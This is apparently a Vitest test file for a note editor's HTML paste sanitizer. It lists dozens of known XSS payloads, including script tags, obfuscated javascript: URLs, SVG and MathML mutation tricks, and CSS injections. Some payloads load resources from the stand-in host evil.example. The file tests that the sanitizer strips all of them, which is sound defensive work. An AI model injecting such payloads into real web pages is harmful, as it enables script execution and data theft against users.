// @vitest-environment jsdom
// Known XSS payloads pasted into a note: none survives the sanitizer, nor the editor's import
// of what the sanitizer lets through. And what a reporter meant to paste (structure, emphasis,
// ordinary links) still arrives.

import { $generateNodesFromDOM } from '@lexical/html';
import { $getRoot, $insertNodes, $createParagraphNode, createEditor } from 'lexical';
import { describe, expect, it } from 'vitest';
import { NOTE_NODES } from '../nodes';
import { isSafeUrl } from '../../../../shared/note-nodes/safe-url';
import { sanitizePastedHtml } from './sanitize';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img srcset="http://evil.example/x.png 1x" alt="">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java&#x09;script:alert(1)">click</a>',
  '<a href="jav&#x0A;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
  '<a href="\u0001javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">click</a>',
  '<a href="https://ok.example" onmouseover="alert(1)" target="_blank">fine link</a>',
  '<a xlink:href="javascript:alert(1)">click</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<base href="http://evil.example/">',
  '<style>@import "http://evil.example/x.css"; body { background: url(javascript:alert(1)) }</style>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<div style="width: expression(alert(1))">styled</div>',
  '<span style="font-weight:bold; background-image:url(http://evil.example/pixel.png)">bold</span>',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type="image">',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<p onclick="alert(1)">para</p>',
  '<marquee onstart=alert(1)>m</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<x onclick=alert(1)>custom',
  '<div data-x="1" id="clobber" name="cookie" class="evil">attrs</div>',
  '<a href="https://ok.example/" id="location">ok</a>',
  '"><script>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
];

const TAGS = new Set(['P', 'BR', 'DIV', 'SPAN', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A', 'STRONG', 'B', 'EM', 'I', 'U', 'S', 'STRIKE', 'DEL', 'SUB', 'SUP', 'CODE', 'PRE']);
const ATTRIBUTES = new Set(['href', 'title', 'style', 'start', 'dir']);

function expectHarmless(html: string): void {
  const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html');
  for (const el of doc.body.querySelectorAll('*')) {
    expect(TAGS.has(el.tagName), `<${el.tagName}> in ${html}`).toBe(true);
    for (const attr of el.attributes) {
      expect(ATTRIBUTES.has(attr.name), `${attr.name} in ${html}`).toBe(true);
      if (attr.name === 'href') expect(isSafeUrl(attr.value), attr.value).toBe(true);
      if (attr.name === 'style') expect(attr.value).not.toMatch(/url|expression|import|\(/i);
    }
  }
  expect(html).not.toMatch(/javascript:|vbscript:|data:|evil\.example|onerror|onload|srcdoc/i);
}

function importIntoEditor(html: string): string {
  const editor = createEditor({
    namespace: 'paste-test',
    nodes: [...NOTE_NODES],
    onError: (e) => {
      throw e;
    },
  });
  editor.update(
    () => {
      $getRoot().append($createParagraphNode());
      $getRoot().selectEnd();
      $insertNodes($generateNodesFromDOM(editor, new DOMParser().parseFromString(html, 'text/html')));
    },
    { discrete: true },
  );
  return JSON.stringify(editor.getEditorState().toJSON());
}

describe('pasted HTML', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const clean = sanitizePastedHtml(payload);
    expectHarmless(clean);
    const state = importIntoEditor(clean);
    expect(state).not.toMatch(/javascript:|vbscript:|data:|evil\.example/i);
  });

  it('keeps the alt text of an image, and fetches nothing', () => {
    const clean = sanitizePastedHtml('<p>See <img src="http://evil.example/chart.png" alt="Chart of seizures, 2019–2023"> below.</p>');
    expect(clean).toBe('<p>See Chart of seizures, 2019–2023 below.</p>');
  });

  it('keeps headings, lists, quotes, emphasis and ordinary links', () => {
    const clean = sanitizePastedHtml(
      '<h2 class="x">Findings</h2><p><b>Bold</b>, <em>italic</em>, <u>under</u>, <s>struck</s> and <a href="https://example.org/report" target="_blank" rel="opener">a link</a>.</p>' +
        '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><blockquote>Quoted.</blockquote>',
    );
    const state = JSON.parse(importIntoEditor(clean)) as { root: { children: { type: string; tag?: string; listType?: string }[] } };
    const blocks = state.root.children;
    expect(blocks.map((c) => `${c.type}:${c.tag ?? ''}:${c.listType ?? ''}`)).toEqual(['heading:h2:', 'paragraph::', 'list:ul:bullet', 'list:ol:number', 'quote::']);
    const json = JSON.stringify(state);
    expect(json).toContain('"url":"https://example.org/report"');
    expect(json).toContain('"text":"Bold","type":"text"');
    expect(json).toMatch(/"format":1,[^}]*"text":"Bold"/);
    expect(json).toMatch(/"format":2,[^}]*"text":"italic"/);
    expect(json).not.toContain('opener');
  });

  it('keeps emphasis carried by styles (word processors) and only that', () => {
    expect(sanitizePastedHtml('<span style="font-weight: 700; color: red; font-family: Evil">w</span>')).toBe('<span style="font-weight: 700">w</span>');
    // Google Docs wraps a whole paste in <b style="font-weight:normal">: it must not all turn bold.
    const state = importIntoEditor(sanitizePastedHtml('<b style="font-weight:normal" id="docs-internal-guid-1"><p><span>plain</span></p></b>'));
    expect(state).toMatch(/"format":0,[^}]*"text":"plain"/);
  });

  it('tells safe links from unsafe ones', () => {
    for (const ok of ['https://example.org', 'http://a.b/c?d#e', 'mailto:desk@example.org', 'tel:+52 55 1234']) expect(isSafeUrl(ok), ok).toBe(true);
    for (const bad of ['javascript:alert(1)', ' javascript:alert(1)', 'java\tscript:x', 'JAVASCRIPT:x', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', '/relative', '']) {
      expect(isSafeUrl(bad), bad).toBe(false);
    }
  });
});
